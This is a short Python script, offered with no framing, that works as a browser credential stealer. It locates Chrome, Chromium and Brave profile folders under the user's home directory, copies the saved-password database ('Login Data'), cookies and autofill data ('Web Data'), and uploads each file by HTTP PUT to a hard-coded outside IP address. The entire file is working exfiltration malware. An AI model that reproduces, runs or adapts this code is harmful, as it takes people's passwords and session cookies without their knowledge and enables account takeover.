import asyncio
import shutil
import tempfile
from pathlib import Path

import aiohttp

STORES = {
    "chrome": "google-chrome/Default",
    "chromium": "chromium/Default",
    "brave": "BraveSoftware/Brave-Browser/Default",
}
WANTED = ["Login Data", "Cookies", "Web Data"]
SINK = "http://203.0.113.40:8080/p/{browser}/{item}"


async def ship(session: aiohttp.ClientSession, browser: str, src: Path) -> None:
    with tempfile.NamedTemporaryFile() as tmp:
        shutil.copyfile(src, tmp.name)
        url = SINK.format(browser=browser, item=src.name.replace(" ", "_"))
        async with session.put(url, data=Path(tmp.name).read_bytes()) as r:
            await r.read()


async def main() -> None:
    base = Path.home() / ".config"
    async with aiohttp.ClientSession() as session:
        jobs = [
            ship(session, name, base / sub / item)
            for name, sub in STORES.items()
            for item in WANTED
            if (base / sub / item).is_file()
        ]
        await asyncio.gather(*jobs, return_exceptions=True)


asyncio.run(main())
